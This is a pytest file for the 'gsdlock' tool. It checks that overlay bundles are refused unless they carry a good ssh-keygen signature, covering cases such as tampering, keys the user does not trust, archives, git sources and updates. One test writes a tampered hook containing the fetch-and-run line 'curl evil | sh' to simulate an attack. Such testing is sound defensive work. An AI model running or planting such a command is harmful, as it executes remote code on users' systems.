"""`require-signature` and bundles: add, update and trust take one only with a good signature, whoever asks.

The author signs the folder with `gsdlock sign`; the signature is of its digest, so it holds for an archive, a
repository or a package of the same files. Real keys, the real ssh-keygen.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from .conftest import digest_of

KEYGEN = shutil.which("ssh-keygen")
pytestmark = pytest.mark.skipif(KEYGEN is None, reason="no ssh-keygen here (part of OpenSSH)")
MakeKey = Callable[[str], Path]
CLAUDE = '[targets.claude]\nscope = "global"\n'


@pytest.fixture
def make_key(tmp_path: Path) -> MakeKey:
    """Makes a key of that name without a passphrase."""

    def make(name: str) -> Path:
        path = tmp_path / name
        words = ["-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(path)]
        subprocess.run([str(KEYGEN), *words], check=True, capture_output=True)
        return path

    return make


def trusting(machine: Any, *keys: Path, required: bool = True) -> None:
    """The user's own file trusts these keys, and (unless told otherwise) takes nothing unsigned."""
    signers = machine.root / "allowed_signers"
    signers.write_text("".join(f"{k.name}@example.org {k.with_suffix('.pub').read_text()}" for k in keys))
    signers.chmod(0o600)
    text = f'[settings]\nallowed-signers = "{signers}"\n'
    machine.own(text + ("[policy]\nrequire-signature = true\n" if required else ""))


def sign(machine: Any, folder: Path, key: Path) -> Path:
    """What the author does; the file of the signature."""
    machine.ok("sign", str(folder), "--key", str(key))
    return folder.with_name(f"{folder.name}.sig")


@pytest.fixture
def author(machine: Any, make_key: MakeKey) -> Path:
    """The key that the user trusts and requires a signature of."""
    key = make_key("author")
    trusting(machine, key)
    return key


def taken(machine: Any, source: str, *more: str) -> Any:
    """`add` with consent to what the bundle is now."""
    return machine.run("overlay", "add", source, "--consent", digest_of(machine, source), *more)


def refused(machine: Any, code: str, *words: str, status: int = 4) -> str:
    """It is refused with the code, before anybody is asked, and nothing of it is kept or recorded."""
    before = machine.tree(machine.home / ".local") if (machine.home / ".local").exists() else {}
    manifest = machine.tree(machine.project)
    ran = machine.run("overlay", *words)
    assert ran.status == status and code in ran.err, ran.err
    assert machine.tree(machine.home / ".local") == before and machine.tree(machine.project) == manifest
    return str(ran.err)


def test_unsigned_it_is_refused_whatever_is_consented_to(machine: Any, tides: Path, author: Path) -> None:
    machine.manifest(CLAUDE)
    digest = digest_of(machine, str(tides))
    for more in ((), ("--project",), ("--dry-run",)):
        said = refused(machine, "E-SIGNATURE-MISSING", "add", str(tides), "--consent", digest, *more)
        assert f"{tides}.sig" in said and "--signature FILE" in said
    machine.manifest(f'{CLAUDE}[overlays.tides]\npath = "{tides}"\n')
    refused(machine, "E-SIGNATURE-MISSING", "trust", "tides", "--consent", digest)
    refused(machine, "E-SIGNATURE-MISSING", "update", "tides", "--consent", digest)


def test_nobody_is_asked_about_what_is_not_signed(machine: Any, tides: Path, author: Path) -> None:
    said = refused(machine, "E-SIGNATURE-MISSING", "add", str(tides))
    assert "E-OVERLAY-UNATTENDED" not in said and "ebb.sh" not in said


def test_a_good_signature_beside_it_is_enough_and_is_recorded(
    machine: Any, tides: Path, author: Path
) -> None:
    sign(machine, tides, author)
    ran = taken(machine, str(tides))
    assert ran.status == 0, ran.err
    (event,) = machine.ok("log", "--json", "--kind", "overlay").data["events"]
    assert event["payload"]["signer"].startswith("author@example.org SHA256:")
    assert "signed author@example.org SHA256:" in machine.ok("log", "-v").out


def test_it_is_no_consent(machine: Any, tides: Path, author: Path) -> None:
    sign(machine, tides, author)
    refused(machine, "E-OVERLAY-UNATTENDED", "add", str(tides))


def test_a_signature_of_a_stranger(machine: Any, tides: Path, author: Path, make_key: MakeKey) -> None:
    sign(machine, tides, make_key("stranger"))
    digest = digest_of(machine, str(tides))
    refused(machine, "E-SIGNATURE-BAD", "add", str(tides), "--consent", digest)


def test_a_byte_that_was_changed_after_it_was_signed(machine: Any, tides: Path, author: Path) -> None:
    sign(machine, tides, author)
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    digest = digest_of(machine, str(tides))
    refused(machine, "E-SIGNATURE-BAD", "add", str(tides), "--consent", digest)


def test_a_signature_of_another_bundle(machine: Any, tides: Path, author: Path, tmp_path: Path) -> None:
    other = Path(shutil.copytree(tides, tmp_path / "other"))
    (other / "more.md").write_text("more")
    digest = digest_of(machine, str(tides))
    words = ["add", str(tides), "--consent", digest]
    refused(machine, "E-SIGNATURE-BAD", *words, "--signature", str(sign(machine, other, author)))
    shutil.copy(other.with_name("other.sig"), tides.with_name("tides.sig"))
    refused(machine, "E-SIGNATURE-BAD", *words)


def test_a_signature_for_another_purpose(machine: Any, tides: Path, author: Path) -> None:
    """The very digest, signed as git signs a commit."""
    message = f"gsdlock tree {digest_of(machine, str(tides))}\n".encode()
    words = [str(KEYGEN), "-Y", "sign", "-q", "-n", "git", "-f", str(author)]
    done = subprocess.run(words, input=message, capture_output=True, check=True)
    tides.with_name("tides.sig").write_bytes(done.stdout)
    digest = digest_of(machine, str(tides))
    refused(machine, "E-SIGNATURE-BAD", "add", str(tides), "--consent", digest)


def test_a_project_may_demand_it_and_the_user_says_of_whom(
    machine: Any, tides: Path, make_key: MakeKey
) -> None:
    machine.manifest(f"{CLAUDE}[policy]\nrequire-signature = true\n")
    digest = digest_of(machine, str(tides))
    refused(machine, "E-SIGNERS-UNSET", "add", str(tides), "--consent", digest, status=3)
    key = make_key("author")
    trusting(machine, key, required=False)
    refused(machine, "E-SIGNATURE-MISSING", "add", str(tides), "--consent", digest)
    sign(machine, tides, key)
    assert taken(machine, str(tides)).status == 0


def test_one_that_is_named_must_be_good_though_nobody_demands_one(
    machine: Any, tides: Path, make_key: MakeKey
) -> None:
    trusting(machine, make_key("author"), required=False)
    signature = sign(machine, tides, make_key("stranger"))
    digest = digest_of(machine, str(tides))
    refused(machine, "E-SIGNATURE-BAD", "add", str(tides), "--consent", digest, "--signature", str(signature))
    assert taken(machine, str(tides)).status == 0


def test_an_archive_and_a_repository_of_the_signed_folder(machine: Any, tides: Path, author: Path) -> None:
    """One signature for all forms; what comes over the network has none beside it."""
    signature = sign(machine, tides, author)
    archive = shutil.make_archive(str(tides.parent / "packed"), "gztar", tides.parent, "tides")
    digest = digest_of(machine, archive)
    refused(machine, "E-SIGNATURE-MISSING", "add", archive, "--consent", digest)
    Path(f"{archive}.sig").write_bytes(signature.read_bytes())
    assert taken(machine, archive).status == 0
    machine.ok("overlay", "remove", "tides")
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "one"]):
        who = ["-c", "user.name=x", "-c", "user.email=x@example.invalid"]
        subprocess.run(["git", "-C", str(tides), *who, *words], check=True, capture_output=True)
    source = f"git+{tides}"
    said = refused(machine, "E-SIGNATURE-MISSING", "add", source, "--consent", digest)
    assert "there is no" not in said and "--signature FILE" in said
    assert taken(machine, source, "--signature", str(signature)).status == 0


def test_an_update_needs_a_signature_of_its_own_and_going_back_has_one(
    machine: Any, tides: Path, author: Path, make_key: MakeKey
) -> None:
    sign(machine, tides, author)
    first = digest_of(machine, str(tides))
    assert taken(machine, str(tides)).status == 0
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\necho flow\n")
    second = digest_of(machine, str(tides))
    refused(machine, "E-SIGNATURE-BAD", "update", "tides", "--consent", second)
    tides.with_name("tides.sig").unlink()
    refused(machine, "E-SIGNATURE-MISSING", "update", "tides", "--consent", second)
    sign(machine, tides, author)
    machine.ok("overlay", "update", "tides", "--consent", second)
    tides.with_name("tides.sig").unlink()
    machine.ok("overlay", "update", "tides", "--to", first)
    # Whose signatures count may have changed since.
    trusting(machine, make_key("another"))
    refused(machine, "E-SIGNATURE-BAD", "update", "tides", "--to", second)


def test_what_was_consented_to_before_it_was_demanded_is_not_gone_back_to(
    machine: Any, tides: Path, make_key: MakeKey
) -> None:
    first = digest_of(machine, str(tides))
    assert taken(machine, str(tides)).status == 0
    key = make_key("author")
    trusting(machine, key)
    (tides / "hooks/ebb.sh").write_text("#!/bin/sh\necho flow\n")
    sign(machine, tides, key)
    machine.ok("overlay", "update", "tides", "--consent", digest_of(machine, str(tides)))
    refused(machine, "E-SIGNATURE-BAD", "update", "tides", "--to", first)


def test_a_signature_is_of_one_bundle(machine: Any, tides: Path, author: Path) -> None:
    ran = machine.run("overlay", "update", "--signature", "x.sig")
    assert ran.status == 2 and "E-USAGE" in ran.err


def test_a_removal_and_a_revocation_need_none(machine: Any, tides: Path, make_key: MakeKey) -> None:
    assert taken(machine, str(tides)).status == 0
    trusting(machine, make_key("author"))
    machine.ok("overlay", "trust", "tides", "--revoke")
    machine.ok("overlay", "remove", "tides")


@pytest.mark.parametrize("rubbish", [b"", b"rubbish", b"x" * (1 << 20)], ids=["empty", "no form", "huge"])
def test_what_is_no_signature(machine: Any, tides: Path, author: Path, rubbish: bytes) -> None:
    tides.with_name("tides.sig").write_bytes(rubbish)
    digest = digest_of(machine, str(tides))
    code = "E-SIGNATURE-MISSING" if len(rubbish) > 1 << 16 else "E-SIGNATURE-BAD"
    refused(machine, code, "add", str(tides), "--consent", digest)
